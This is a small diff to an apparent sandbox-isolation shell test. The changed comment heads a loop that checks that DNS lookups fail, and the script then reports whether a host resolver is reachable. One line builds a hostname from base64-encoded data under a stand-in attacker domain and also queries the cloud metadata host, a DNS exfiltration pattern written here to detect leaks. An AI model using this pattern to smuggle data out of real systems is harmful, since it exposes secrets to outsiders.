@@ -1,4 +1,4 @@
-# Data in questions for names.
+# Data in DNS queries.
 for n in $(printf secret | base64 | tr -d =).evil.example example.com localhost.evil.example metadata.google.internal _x._tcp.evil.example; do
   empty getent hosts $n; done
 grep '^nameserver' /etc/resolv.conf | grep -v '^nameserver 127[.]0[.]0[.]' && hole 'a resolver of the host' || held resolver
